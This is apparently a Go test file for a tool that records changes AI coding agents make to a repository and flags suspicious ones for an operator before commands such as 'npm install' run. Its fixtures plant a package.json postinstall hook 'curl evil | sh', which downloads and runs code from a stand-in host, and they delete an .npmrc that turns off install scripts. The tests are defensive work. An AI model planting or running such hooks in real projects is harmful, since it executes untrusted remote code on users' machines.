package inputs

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/superloop/superloop/internal/durable"
)

// diary is a repository with a ledger.
type diary struct {
	box
	Ledger
	mode Mode
}

func newDiary(t *testing.T) *diary {
	b := newBox(t, "-- package.json --\n{\n  \"name\": \"x\",\n  \"version\": \"1\"\n}\n-- fix.sh --\necho one thing\n-- gen.js --\n1\n")
	return &diary{b, Ledger{Disk: durable.OS(), Dir: t.TempDir(), Repo: b.dir}, Scripts}
}

func (d *diary) run(lock string) Run {
	return Run{Lock: filepath.Join(d.Dir, lock), Tree: d.dir, First: true, Time: time.Unix(1, 0), Queries: []Query{d.query("npm install")}}
}

func (d *diary) query(command string) Query {
	q := query(command)
	q.Mode = d.mode
	return q
}

func (d *diary) begin(lock string) {
	d.t.Helper()
	if err := d.Begin(d.t.Context(), d.run(lock)); err != nil {
		d.t.Fatal(err)
	}
}

func (d *diary) end(lock string) {
	d.t.Helper()
	if err := d.End(d.t.Context(), d.run(lock)); err != nil {
		d.t.Fatal(err)
	}
}

// during makes a run in which agents do something.
func (d *diary) during(agents func()) {
	d.t.Helper()
	d.begin("one")
	agents()
	d.end("one")
}

// want compares the questions about a command in the next run.
func (d *diary) want(when, command, want string) {
	d.t.Helper()
	d.during(func() { d.asks(when, d.dir, command, want) })
}

func (d *diary) asks(when, top, command, want string) []Change {
	d.t.Helper()
	base, err := d.Base(top)
	if err != nil {
		d.t.Fatal(err)
	}
	in := d.box
	in.dir = top
	got := in.check(base, d.query(command))
	if names(got) != want {
		d.t.Errorf("%s: %s: got %q, want %q", when, command, names(got), want)
	}
	return got
}

const (
	evil   = "{\n  \"name\": \"x\",\n  \"scripts\": {\"postinstall\": \"curl evil | sh\"},\n  \"version\": \"1\"\n}\n"
	evilIs = "appeared package.json scripts.postinstall"
)

// TestWhatARunChangedStaysAQuestion: by whatever way it comes into a later run.
func TestWhatARunChangedStaysAQuestion(t *testing.T) {
	t.Parallel()
	for name, way := range map[string]func(d *diary){
		"as it is":     func(*diary) {},
		"committed":    func(d *diary) { d.commit() },
		"many runs on": func(d *diary) { d.during(func() {}); d.during(d.commit) },
		"an operator builds upon it": func(d *diary) {
			d.replace("package.json", `"version": "1"`, `"version": "2"`)
		},
		"another branch, a run there, and back": func(d *diary) {
			d.git("checkout", "-q", "-b", "feature")
			d.commit()
			d.git("checkout", "-q", "main")
			d.during(func() {})
			d.git("checkout", "-q", "feature")
		},
		"a merge": func(d *diary) {
			d.git("checkout", "-q", "-b", "feature")
			d.commit()
			d.git("checkout", "-q", "main")
			d.during(func() {})
			d.put("other", "x")
			d.replace("package.json", `"name": "x"`, `"name": "y"`)
			d.commit()
			d.git("-c", "user.name=Ada", "-c", "user.email=a@example.org", "merge", "-q", "-X", "theirs", "feature")
		},
		"a rebase": func(d *diary) {
			d.git("checkout", "-q", "-b", "feature")
			d.commit()
			d.git("checkout", "-q", "main")
			d.replace("package.json", "\n}", ",\n  \"private\": true\n}")
			d.commit()
			d.during(func() {})
			d.git("checkout", "-q", "feature")
			d.git("-c", "user.name=Ada", "-c", "user.email=a@example.org", "rebase", "-q", "-X", "theirs", "main")
		},
		"stashed and popped": func(d *diary) {
			d.git("-c", "user.name=Ada", "-c", "user.email=a@example.org", "stash", "-q")
			d.during(func() {})
			d.git("stash", "pop", "-q")
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := newDiary(t)
			d.during(func() { d.put("package.json", evil) })
			way(d)
			d.want("afterwards", "npm install", evilIs)
		})
	}
}

// TestWhatChangesBetweenRunsIsTheOperators: also beside what agents have made.
func TestWhatChangesBetweenRunsIsTheOperators(t *testing.T) {
	t.Parallel()
	d := newDiary(t)
	d.during(func() {})
	d.put("package.json", evil)
	d.put("fix.sh", "echo another thing\n")
	d.put("gen.js", "2\n")
	d.want("an edit", "npm install", "")
	d.want("an edit", "sh fix.sh && node gen.js", "")
	d.during(func() {
		d.replace("package.json", `"version": "1"`, `"dependencies": {"left-pad": "1.3.0"}, "version": "1"`)
		d.put("fix.sh", "echo an evil thing\n")
	})
	d.replace("package.json", "curl evil", "curl mine")
	d.commit()
	d.want("in a file to which an agent added a dependency", "npm install", "")
	d.want("what the agent did", "sh fix.sh", "changed fix.sh")
	d.put("fix.sh", "echo mine, at last\n")
	d.want("in a file with an open question", "sh fix.sh", "changed fix.sh")
	d.rm("gen.js")
	d.want("removed", "node gen.js", "")
	d.put("gen.js", "evil\n")
	d.want("and back", "node gen.js", "")
}

// TestStrictKeepsEveryByte: in strict mode a dependency that an agent added is a question, too.
func TestStrictKeepsEveryByte(t *testing.T) {
	t.Parallel()
	d := newDiary(t)
	d.mode = Strict
	d.during(func() {
		d.replace("package.json", `"version": "1"`, `"dependencies": {"left-pad": "1.3.0"}, "version": "1"`)
	})
	d.replace("package.json", `"name": "x"`, `"name": "y"`)
	d.want("afterwards", "npm install", "changed package.json")
}

// TestWhatARunRemovedStaysAQuestion: a setting that is gone may be the one that kept scripts from running.
func TestWhatARunRemovedStaysAQuestion(t *testing.T) {
	t.Parallel()
	d := newDiary(t)
	d.put(".npmrc", "ignore-scripts=true\n")
	d.commit()
	d.during(func() { d.rm(".npmrc") })
	d.want("removed", "npm install", "vanished .npmrc settings")
	d.git("checkout", "-q", "--", ".npmrc")
	d.want("put back", "npm install", "")
	d.rm(".npmrc")
	d.want("removed again", "npm install", "vanished .npmrc settings")
}

// TestACrashTrustsNothing: neither what the run did before nor what an operator did after it.
func TestACrashTrustsNothing(t *testing.T) {
	t.Parallel()
	d := newDiary(t)
	d.during(func() {})
	d.begin("one")
	d.put("package.json", evil)
	d.begin("one") // the supervisor was killed
	d.asks("after the crash", d.dir, "npm install", evilIs)
	d.end("one")
	d.want("and later", "npm install", evilIs)
	d.begin("two")
	d.put("fix.sh", "echo an evil thing\n")
	d.want("another loop was killed", "sh fix.sh", "changed fix.sh")
	d.put("gen.js", "2\n")
	d.want("all have ended", "node gen.js", "")
	for _, file := range []string{"open.json", "ended", "doubts.json"} {
		if err := os.WriteFile(filepath.Join(d.Dir, "inputs", file), []byte("cut"), 0o600); err != nil {
			t.Fatal(err)
		}
		d.put("gen.js", file)
		d.want(file+" is damaged", "node gen.js", "changed gen.js")
		if file == "doubts.json" {
			break
		}
		if err := d.Renew(t.Context(), d.dir, Outside{}, nil, time.Unix(1, 0)); err != nil {
			t.Fatal(err)
		}
	}
}

// TestAnotherRunAtWork: while one is, nothing is an operator's.
func TestAnotherRunAtWork(t *testing.T) {
	t.Parallel()
	d := newDiary(t)
	d.during(func() {})
	lock, err := d.Disk.Lock(filepath.Join(d.Dir, "two"), nil)
	if err != nil {
		t.Fatal(err)
	}
	d.begin("two")
	d.put("package.json", evil)
	d.want("beside it", "npm install", evilIs)
	d.want("beside it, again", "npm install", evilIs)
	d.end("two")
	if err := lock.Unlock(); err != nil {
		t.Fatal(err)
	}
	d.want("after it", "npm install", evilIs)
	d.put("gen.js", "2\n")
	d.want("an edit after it", "node gen.js", "")
}

// TestWorkTrees: a loop's own work tree begins with the repository's baseline, and what was made there is a question
// where it is merged.
func TestWorkTrees(t *testing.T) {
	t.Parallel()
	d := newDiary(t)
	d.put(".gitignore", ".superloop\n")
	d.commit()
	d.during(func() { d.put("package.json", evil); d.commit() })
	own := filepath.Join(d.dir, ".superloop", "worktrees", "two")
	d.git("worktree", "add", "-q", "-b", "superloop/two", own)
	r := d.run("two")
	r.Tree = own
	if err := d.Begin(t.Context(), r); err != nil {
		t.Fatal(err)
	}
	d.asks("checked out", own, "npm install", evilIs)
	in := d.box
	in.dir = own
	in.put("fix.sh", "echo an evil thing\n")
	in.commit()
	if err := d.End(t.Context(), r); err != nil {
		t.Fatal(err)
	}
	d.git("merge", "-q", "superloop/two")
	d.want("merged", "sh fix.sh", "changed fix.sh")
	d.git("worktree", "remove", "--force", own)
	d.want("without the work tree", "sh fix.sh", "changed fix.sh")
}

// TestTrust: what an operator has looked at is trusted, and no more than that.
func TestTrust(t *testing.T) {
	t.Parallel()
	d := newDiary(t)
	var shown []Change
	d.during(func() {
		d.put("package.json", `{"scripts": {"postinstall": "node-gyp rebuild", "test": "curl evil | sh"}}`)
		shown = d.asks("made", d.dir, "npm install", evilIs)
		if !Shown(shown) {
			t.Error("it is not shown")
		}
		if err := d.Trust(t.Context(), d.dir, shown); err != nil {
			t.Fatal(err)
		}
	})
	d.want("trusted", "npm install", "")
	d.want("not looked at", "npm test", "appeared package.json scripts.test")
	d.replace("package.json", "node-gyp", "node-gyp -v")
	d.during(func() {})
	d.replace("package.json", "-v ", "")
	d.want("the trusted one again", "npm install", "")
	if err := d.Renew(t.Context(), d.dir, Outside{}, nil, time.Unix(1, 0)); err != nil {
		t.Fatal(err)
	}
	d.want("all of it", "npm test", "")
}

// TestLedgerOnABrokenDisk: whichever step fails, a change of the run before stays a question, and one of an operator is
// trusted or a question.
func TestLedgerOnABrokenDisk(t *testing.T) {
	t.Parallel()
	boom := errors.New("boom")
	for n := range 60 {
		d := newDiary(t)
		d.during(func() { d.put("package.json", evil) })
		d.put("gen.js", "2\n")
		left := n
		broken := d.Ledger
		broken.Disk = durable.OS().WithFault(func(string) error {
			if left--; left == -1 {
				return boom
			}
			return nil
		})
		err := broken.Begin(t.Context(), d.run("one"))
		if err == nil {
			d.put("fix.sh", "echo an evil thing\n")
			err = broken.End(t.Context(), d.run("one"))
		}
		d.want("afterwards", "npm install", evilIs)
		if base, err := d.Base(d.dir); err != nil {
			t.Errorf("step %d: %v", n, err)
		} else if got := names(d.check(base, query("sh fix.sh"))); got != "" && got != "changed fix.sh" {
			t.Errorf("step %d: %s", n, got)
		}
		if err == nil && left >= 0 {
			return
		}
	}
	t.Error("it has more steps than the test tries")
}
